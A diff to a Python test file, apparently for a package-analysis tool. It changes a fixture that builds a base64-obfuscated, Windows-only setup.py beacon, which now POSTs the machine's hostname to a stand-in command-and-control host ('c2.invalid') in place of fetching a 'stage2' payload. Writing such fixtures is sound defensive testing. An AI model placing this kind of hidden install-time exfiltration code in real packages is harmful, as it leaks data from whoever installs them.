@@ -235,7 +235,9 @@ def test_setup_py_gated_on_windows_runs_in_the_windows_pass_on_a_static_hint(tmp
         import os, socket
         if os.name == "nt":
             s = socket.create_connection(({host!r}, {port}), timeout=5)
-            s.sendall(b"GET /stage2 HTTP/1.1\\r\\nHost: c2.invalid\\r\\n\\r\\n")
+            body = socket.gethostname().encode()
+            s.sendall(b"POST /checkin HTTP/1.1\\r\\nHost: c2.invalid\\r\\nContent-Length: "
+                      + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
             s.close()
         """)
     top = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))\n"
